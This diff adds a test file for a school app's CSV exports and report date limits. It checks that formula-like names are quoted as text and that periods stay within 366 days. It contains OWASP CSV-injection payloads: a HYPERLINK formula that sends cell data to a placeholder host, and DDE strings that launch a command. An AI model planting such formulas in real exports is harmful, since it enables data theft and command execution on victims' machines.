@@ -1,0 +1,99 @@
+"""The after-class and report surfaces under attack: names that are spreadsheet formulas in
+the CSV exports, periods that try to escape their limit, markup in names on the pages and
+charts, and forms posted without their CSRF token. On SQLite and PostgreSQL."""
+
+from __future__ import annotations
+
+import codecs
+import csv
+import io
+from datetime import date, timedelta
+
+import pytest
+
+from classroom.models import Role
+from tests.conftest import School
+from tests.report_school import seed
+
+# OWASP's list: what a spreadsheet reads as the start of a formula (or a DDE call).
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]  # fmt: skip
+
+
+def _rows(body: bytes) -> list[list[str]]:
+    assert body.startswith(codecs.BOM_UTF8)
+    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+async def test_names_that_are_formulas_stay_text_in_every_csv(school: School, formula: str) -> None:
+    """A student and a tutor rename themselves to a formula; every CSV cell that starts like
+    one is led by a quote (OWASP), so the coordinator's spreadsheet shows it as text."""
+    seeded = await seed(school)
+    for person in (seeded.students[3], seeded.ayu):
+        visitor = await school.login(person)
+        status, body = await visitor.api(
+            "PATCH", "/api/v1/me", {"name": formula, "timezone": "Asia/Jakarta", "language": "en"}
+        )
+        assert status == 200, body
+    coordinator = await school.login(seeded.coordinator)
+    query = f"since={seeded.since}&until={seeded.until}"
+    seen = 0
+    for table in ("weeks", "lecturers", "pay", "pay-classes", "students"):
+        async with coordinator.client.get(f"/reports/{table}.csv?{query}") as resp:
+            assert resp.status == 200, await resp.text()
+            rows = _rows(await resp.read())
+        for row in rows[1:]:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (table, row)
+            seen += row.count("'" + formula)
+    assert seen >= 3  # lecturers, pay and students name them
+
+
+async def test_numbers_in_the_csv_stay_numbers(school: School) -> None:
+    """Only text is quoted: amounts, hours and dates are left for the spreadsheet to read."""
+    seeded = await seed(school)
+    coordinator = await school.login(seeded.coordinator)
+    async with coordinator.client.get(
+        f"/reports/pay.csv?since={seeded.since}&until={seeded.until}"
+    ) as resp:
+        rows = _rows(await resp.read())
+    assert rows[1][3:7] == ["3", "3.50", "340000.00", "IDR"], rows
+
+
+LONG_AGO, FAR_AHEAD = date(1970, 1, 1), date(2999, 12, 31)
+
+
+@pytest.mark.parametrize(
+    "query",
+    [f"since={LONG_AGO}", f"until={FAR_AHEAD}", f"since={FAR_AHEAD}", f"until={LONG_AGO}"],
+)
+async def test_one_end_of_a_period_alone_stays_within_366_days(school: School, query: str) -> None:
+    """Only both ends were held to 366 days: ``since=1970-01-01`` alone asked for 56 years
+    of the school. Every report, page and CSV answers for at most 366 days."""
+    _, coordinator = await school.join(Role.COORDINATOR)
+    _, student = await school.join(Role.STUDENT)
+    tutor_user, tutor = await school.join(Role.TUTOR)
+    for visitor, path in [
+        (coordinator, "/api/v1/reports/school"),
+        (coordinator, "/api/v1/reports/pay"),
+        (coordinator, "/api/v1/attendance/no-shows"),
+        (student, "/api/v1/me/progress"),
+        (tutor, "/api/v1/me/progress"),
+        (coordinator, f"/api/v1/people/{tutor_user.id}/progress"),
+    ]:
+        status, body = await visitor.api("GET", f"{path}?{query}")
+        assert status == 200, (path, body)
+        span = date.fromisoformat(body["until"]) - date.fromisoformat(body["since"])
+        assert timedelta(0) <= span < timedelta(days=366), (path, body["since"], body["until"])
+    for path in ("/reports", "/reports/attendance", "/reports/pay.csv"):
+        assert (await coordinator.page(f"{path}?{query}"))[0] == 200, path
+
+
+async def test_the_no_show_rates_keep_to_366_days_too(school: School) -> None:
+    _, coordinator = await school.join(Role.COORDINATOR)
+    query = f"since={LONG_AGO}&until={FAR_AHEAD}"
+    status, body = await coordinator.api("GET", f"/api/v1/attendance/no-shows?{query}")
+    assert status == 422 and "until" in body["error"]["fields"], body
+    status, html = await coordinator.page(f"/reports/attendance?{query}")
+    assert status == 422 and 'aria-describedby="e-until"' in html
